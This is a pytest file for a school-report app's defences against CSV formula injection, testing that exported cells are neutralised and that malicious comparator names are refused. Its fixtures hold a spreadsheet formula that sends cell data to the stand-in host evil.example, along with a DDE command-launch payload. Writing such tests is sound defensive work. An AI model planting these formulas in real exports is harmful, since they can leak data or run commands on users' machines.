"""CSV injection (issue 14 item 8): a formula typed or synced into a name reaches the county
report's CSV files as text, and `central comparator --area` refuses one on entry."""

from __future__ import annotations

import csv
import errno
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import func, select, update

from linkadviser.authority import trajectory
from linkadviser.authority.export import spreadsheet_safe
from linkadviser.authority.grades import GradeCounts
from linkadviser.cli import main
from linkadviser.store.db import open_store
from linkadviser.store.models import School
from linkadviser.store.models_authority import GradeSnapshot
from tests.unit.authority.county import build_county

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'


@pytest.mark.parametrize(("cell", "written"), [
    (HYPERLINK, "'" + HYPERLINK), ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\tTab", "'\tTab"),
    ("\r=1", "'\r=1"), ("-1.5", "-1.5"), ("-2,650.00", "-2,650.00"), ("+12%", "+12%"),
    ("Ash Primary", "Ash Primary"), ("", ""), (3, 3),
])
def test_formula_cells_are_text_and_numbers_stay_numbers(cell, written):
    assert spreadsheet_safe(cell) == written


@pytest.fixture
def hostile_county(tmp_path):
    """The test county with a formula for a school's name and a comparator area stored as
    an older version of the app would have stored it (before the check on entry)."""
    path = tmp_path / "central.sqlite3"
    store = open_store(path)
    build_county(store)
    with store.transaction() as session:
        session.execute(update(School).where(School.urn == 1).values(name=HYPERLINK))
        trajectory.record(session, date(2026, 9, 1), HYPERLINK,
                          {"All schools": GradeCounts(20, 60, 18, 2)}, False, "old store")
    store.close()
    return str(path)


def test_report_csvs_hold_no_live_formula(hostile_county, tmp_path, capsys):
    out = tmp_path / "out"
    assert main(["central", "report", "--db", hostile_county, "--date", "2026-11-26",
                 "-o", str(out)]) == 0
    seen = set()
    for name in ("invoice.csv", "county-picture.csv", "trajectory.csv", "risk.csv"):
        with (out / name).open(encoding="utf-8-sig", newline="") as fh:
            cells = [c for row in csv.reader(fh) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "@", "\t", "\r")], name
        if "'" + HYPERLINK in cells:
            seen.add(name)
    assert seen == {"invoice.csv", "county-picture.csv", "trajectory.csv", "risk.csv"}


@pytest.mark.parametrize(("flag", "value"), [
    ("--area", HYPERLINK), ("--area", "@SUM(1)"), ("--area", "-England"), ("--area", " "),
    ("--area", "E" * 81), ("--phase", "+Primary"), ("--phase", "<b>Primary</b>"),
    ("--source", "=1+1"), ("--source", "Ofsted\r=1"),
])
def test_comparator_refuses_what_is_not_a_plain_name(tmp_path, capsys, flag, value):
    db = str(tmp_path / "central.sqlite3")
    argv = {"--area": "England", "--phase": "All schools", "--source": "Ofsted MI"}
    argv[flag] = value
    assert main(["central", "comparator", "--db", db, "--date", "2026-09-01",
                 "--counts", "20,60,18,2", *[f"{k}={v}" for k, v in argv.items()]]) == 2
    err = capsys.readouterr().err
    assert f"{flag} " in err and "plain name" in err and err.count("\n") == 1
    store = open_store(tmp_path / "central.sqlite3")
    with store.session() as session:
        assert session.scalar(select(func.count()).select_from(GradeSnapshot)) == 0
    store.close()


def test_comparator_keeps_real_area_names(tmp_path):
    db = str(tmp_path / "central.sqlite3")
    for area in ("England", "East of England", "Yorkshire and the Humber", "Ynys Môn"):
        assert main(["central", "comparator", "--db", db, "--area", area, "--phase",
                     "Secondary (11-16)", "--date", "2026-09-01", "--counts", "1,2,3,4",
                     "--source", "Ofsted MI, 31 August 2026 (https://www.gov.uk/...)"]) == 0


def test_report_output_naming_a_file_is_one_line(hostile_county, tmp_path, capsys):
    existing = tmp_path / "report.csv"
    existing.write_text("keep me")
    assert main(["central", "report", "--db", hostile_county, "-o", str(existing)]) == 2
    err = capsys.readouterr().err
    assert "that is a file; name a folder" in err and err.count("\n") == 1
    assert existing.read_text() == "keep me"


def test_report_output_on_a_full_disk_is_one_line(hostile_county, tmp_path, capsys,
                                                   monkeypatch):
    def full(*_args: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr("linkadviser.authority.export.write_table", full)
    assert main(["central", "report", "--db", hostile_county, "-o",
                 str(tmp_path / "out")]) == 2
    err = capsys.readouterr().err
    assert "could not be written (No space left on device)" in err and err.count("\n") == 1


def test_saving_csvs_from_the_app_on_a_full_disk_is_our_error(hostile_county, monkeypatch,
                                                               tmp_path):
    """The county page saves through write_csvs too: it shows ExportError's message."""
    from linkadviser.authority.export import ExportError, write_csvs
    from linkadviser.authority.report import build_report
    from linkadviser.programme import default_programme

    store = open_store(Path(hostile_county))
    report = build_report(store, default_programme(), date(2026, 11, 26), record_snapshot=False)
    store.close()
    def read_only(*_args: object) -> None:
        raise OSError(errno.EROFS, "Read-only file system")

    monkeypatch.setattr("linkadviser.authority.export.write_table", read_only)
    with pytest.raises(ExportError, match="could not be written .Read-only file system."):
        write_csvs(report, tmp_path / "out")
